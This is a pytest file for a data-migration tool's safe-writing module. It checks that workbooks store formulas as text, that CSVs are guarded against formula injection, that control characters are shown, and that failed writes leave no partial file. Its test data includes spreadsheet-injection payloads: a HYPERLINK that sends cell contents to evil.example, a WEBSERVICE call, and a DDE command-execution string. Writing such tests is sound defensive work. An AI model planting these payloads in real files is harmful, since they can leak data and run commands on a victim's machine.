"""Files migkit writes for people: workbooks whose text stays text, control characters shown,
CSVs of problems guarded against formulas, and nothing ever half-written."""

from __future__ import annotations

import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

import migkit
from migkit.cli import main
from migkit.safe_write import WriteError, write_people_csv, write_workbook
from tests.helpers import SAMPLES

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    '=WEBSERVICE("https://evil.example")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\tleading tab",
    "\rleading return",
]


def report_with(values: list[str], column: str = "Notes") -> migkit.ReconcileReport:
    source = pd.DataFrame({"Email": [f"u{i}@x.io" for i in range(len(values))], column: "ok"})
    export = source.copy()
    export[column] = values
    return migkit.reconcile(source, export, key="Email")


def test_reconcile_workbook_writes_formulas_as_the_text_the_user_sees(tmp_path: Path) -> None:
    path = report_with(HOSTILE, column="=cmd|' /C calc'!A0").to_excel(tmp_path / "r.xlsx")
    with zipfile.ZipFile(path) as archive:
        xml = b"".join(archive.read(n) for n in archive.namelist() if "worksheets" in n)
    assert b"<f>" not in xml and b"<f " not in xml  # no formula anywhere in the workbook
    changed = openpyxl.load_workbook(path)["Changed"]
    for row in changed.iter_rows(min_row=2):
        for cell in row:
            if isinstance(cell.value, str) and cell.value[:1] in "=+-@\t_":
                assert cell.data_type == "s" and cell.quotePrefix, cell.value
    seen = migkit.read(path, sheet="Changed")  # as Excel shows it (CR stored as _x000D_)
    assert set(HOSTILE) <= set(seen["export"]) and "=cmd|' /C calc'!A0" in set(seen["column"])


def test_control_characters_are_written_visibly_not_refused(tmp_path: Path) -> None:
    path = report_with(["bell\x07", "a\x01b", "keep\ttab\nand newline"]).to_excel(
        tmp_path / "r.xlsx"
    )
    changed = openpyxl.load_workbook(path)["Changed"]
    values = {c.value for row in changed.iter_rows(min_row=2) for c in row}
    assert {"bell\\x07", "a\\x01b", "keep\ttab\nand newline"} <= values


def test_a_failed_write_leaves_the_old_file_and_no_partial_one(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = tmp_path / "report.xlsx"
    target.write_bytes(b"the previous report")

    save = openpyxl.Workbook.save

    def save_then_fail(self: openpyxl.Workbook, filename: str) -> None:
        save(self, filename)  # the bytes are there, then the disk fills up (at close, say)
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(openpyxl.Workbook, "save", save_then_fail)
    with pytest.raises(WriteError, match="No space left on device"):
        write_workbook(target, [("S", pd.DataFrame({"a": ["1"]}))])
    assert target.read_bytes() == b"the previous report"
    assert [p.name for p in tmp_path.iterdir()] == ["report.xlsx"]


def test_writing_into_a_missing_folder_is_a_migkit_error(tmp_path: Path) -> None:
    with pytest.raises(WriteError, match="could not write"):
        write_people_csv(pd.DataFrame({"a": ["1"]}), tmp_path / "gone" / "errors.csv")
    assert not (tmp_path / "gone").exists()


def test_people_csv_guards_formulas_but_keeps_numbers(tmp_path: Path) -> None:
    frame = pd.DataFrame({"value": [*HOSTILE, "-5", "+1.5e3", "plain"], "n": range(10)})
    guarded = pd.read_csv(write_people_csv(frame, tmp_path / "e.csv"), dtype=str,
                          keep_default_na=False)  # fmt: skip
    assert guarded["value"].tolist() == ["'" + v for v in HOSTILE] + ["-5", "+1.5e3", "plain"]
    raw = pd.read_csv(write_people_csv(frame, tmp_path / "raw.csv", guard=False), dtype=str,
                      keep_default_na=False)  # fmt: skip
    assert raw["value"].tolist() == [*HOSTILE, "-5", "+1.5e3", "plain"]


def test_validate_errors_csv_is_guarded_unless_raw_is_asked(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "accounts.csv").write_text(
        'Name,Domain,Tier\n"=HYPERLINK(""http://x"")",=1+1,@gold\n', "utf-8"
    )
    templates = str(SAMPLES / "templates.json")
    for flag, expected in (([], "'=1+1"), (["--errors-raw"], "=1+1")):
        code = main(["validate", "accounts.csv", "--template", "Accounts",
                     "--templates-file", templates, "--errors", "e.csv", *flag])  # fmt: skip
        capsys.readouterr()
        errors = pd.read_csv(tmp_path / "e.csv", dtype=str, keep_default_na=False)
        assert code == 1 and expected in errors["value"].tolist()


def test_reconcile_excel_from_the_cli_with_control_characters_exits_cleanly(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "a.csv").write_text("Email,Notes\nu@x.io,fine\n", "utf-8")
    (tmp_path / "b.csv").write_text("Email,Notes\nu@x.io,bad\x01byte\n", "utf-8")
    code = main(["reconcile", "a.csv", "b.csv", "--key", "Email", "--excel", "r.xlsx"])
    assert code == 1 and "Traceback" not in capsys.readouterr().err
    changed = openpyxl.load_workbook(tmp_path / "r.xlsx")["Changed"]
    assert "bad\\x01byte" in {c.value for row in changed.iter_rows() for c in row}


def test_a_cell_longer_than_excel_allows_is_cut_and_says_so(tmp_path: Path) -> None:
    long = "x" * 40_000
    path = report_with([long, "short"]).to_excel(tmp_path / "r.xlsx")
    changed = openpyxl.load_workbook(path)["Changed"]
    values = [c.value for row in changed.iter_rows(min_row=2) for c in row]
    cut = next(v for v in values if isinstance(v, str) and v.startswith("xxx"))
    assert len(cut) == 32_767 and cut.endswith("[cut here: 40,000 characters in all]")
    assert "short" in values
